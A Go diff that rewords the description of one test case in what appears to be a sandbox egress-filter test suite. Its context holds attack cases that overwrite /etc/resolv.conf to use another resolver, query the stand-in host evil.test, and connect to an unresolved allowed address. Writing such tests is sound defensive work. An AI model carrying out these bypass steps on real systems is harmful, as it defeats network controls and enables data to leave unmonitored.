@@ -275,7 +275,7 @@ func answerAttacks() []Attack {
 		{ID: "resolv-conf", Family: family, Tries: "/etc/resolv.conf names another resolver", Do: func(a *Agent) error {
 			return all(write("/etc/resolv.conf", "nameserver "+a.v4.String()+"\n"), a.ask(a.evil4(53), "evil.test", typeA))
 		}},
-		{ID: "unresolved-address", Family: family, Tries: "the address of an allowed name that nobody has asked for", Leak: func(e Event) bool { return to(manyLast)(e) && e.DstPort == 8443 },
+		{ID: "unresolved-address", Family: family, Tries: "the address of an allowed name that was not resolved yet", Leak: func(e Event) bool { return to(manyLast)(e) && e.DstPort == 8443 },
 			Do: func(a *Agent) error { return all(a.tcp(at(manyLast, 8443)), a.udp(at(manyLast, 8443))) }},
 	}
 }
